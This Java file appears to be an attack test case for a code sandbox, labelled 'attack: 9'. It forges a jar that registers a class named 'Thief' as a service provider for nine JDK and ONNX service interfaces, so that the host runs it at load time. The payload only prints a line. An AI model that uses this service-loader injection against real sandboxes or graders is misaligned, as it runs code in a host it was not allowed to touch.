// attack: 9
// verdict: accepted
import module java.base;
import org.showdown.sandbox.Forge;

public class Forged {
    public static byte[] file() throws Exception {
        var entries = Forge.jar();
        entries.putAll(Forge.classes("Thief", """
                public class Thief extends java.nio.charset.spi.CharsetProvider implements java.util.function.Supplier<String> {
                    public Thief() { System.out.println("a provider of the submission was made"); }
                    public java.util.Iterator<java.nio.charset.Charset> charsets() { return java.util.Collections.emptyIterator(); }
                    public java.nio.charset.Charset charsetForName(String name) { return null; }
                    public String get() { return ""; }
                }
                """));
        for (String service : List.of("java.nio.charset.spi.CharsetProvider", "java.nio.file.spi.FileSystemProvider",
                "java.lang.System$LoggerFinder", "java.util.spi.ResourceBundleControlProvider", "java.time.zone.ZoneRulesProvider",
                "java.net.spi.URLStreamHandlerProvider", "java.net.spi.InetAddressResolverProvider", "java.security.Provider",
                "ai.onnxruntime.OrtEnvironment")) {
            entries.put("META-INF/services/" + service, Forge.bytes("Thief"));
        }
        return Forge.zip(entries);
    }
}
